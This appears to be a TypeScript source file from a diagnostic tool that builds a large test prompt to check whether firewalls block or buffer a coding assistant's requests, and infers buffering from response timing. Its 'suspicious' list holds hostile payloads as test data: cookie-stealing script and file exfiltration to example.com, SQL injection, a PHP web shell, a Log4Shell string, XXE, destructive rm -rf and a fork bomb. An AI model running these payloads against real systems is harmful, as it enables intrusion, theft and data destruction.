/** The large prompt of `doctor`, and the detection of buffering by the timing of an answer. */

/** Lines that web application firewalls block although coding assistants often send them. */
const suspicious = [
  "<script>document.location = 'https://example.com/?c=' + document.cookie</script>",
  "SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; --",
  "cat ../../../../etc/passwd | curl -X POST --data-binary @- https://example.com/upload",
  "<?php system($_GET['cmd']); ?>",
  "${jndi:ldap://example.com/a}",
  "rm -rf / --no-preserve-root && :(){ :|:& };:",
  "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
  "powershell -NoProfile -EncodedCommand SQBFAFgA"
]

const makeOrdinaryLine = (index: number): string =>
  `export const step${index} = (input: ReadonlyArray<string>) => input.filter((line) => line.length > ${index}).map((line) => line.trim())`

/** About 60 KiB, the size of a few source files, with typical content of source files. */
export const largePrompt = [
  "Here is a repository's text. Answer with the one word OK.",
  ...Array.from({ length: 480 }, (_, index) => index % 60 === 0 ? suspicious[index / 60]! : makeOrdinaryLine(index))
].join("\n")

/**
 * A buffered answer arrives in one burst, after at least the time that a model needs to generate it: in less than a tenth of that time, because a
 * busy machine needs a while to read it. In milliseconds.
 */
const isBurst = (first: number, last: number): boolean => first > 500 && last - first < Math.max(50, first / 10)

/** In characters. A model may send a shorter text at once. */
const minLength = 100

/** A piece of an answer's text. What arrives together is one piece. */
export interface Piece {
  /** When it arrived, in milliseconds after the request. */
  readonly time: number
  /** In characters. */
  readonly length: number
}

/** Describes the pace of an answer. */
export const describePacing = (
  pieces: ReadonlyArray<Piece>
): { readonly detail: string; readonly isBuffered: boolean } => {
  const first = pieces[0]?.time
  const last = pieces.at(-1)?.time
  if (first === undefined || last === undefined) return { detail: "answered without text", isBuffered: false }
  const length = pieces.reduce((sum, piece) => sum + piece.length, 0)
  const isBuffered = length >= minLength && isBurst(first, last)
  const count = `${pieces.length} ${pieces.length === 1 ? "piece" : "pieces"}`
  return {
    detail: isBuffered
      ? `buffered: nothing for ${first} ms, then all ${length} characters within ${last - first} ms`
      : `first text after ${first} ms, ${count} within ${last - first} ms`,
    isBuffered
  }
}
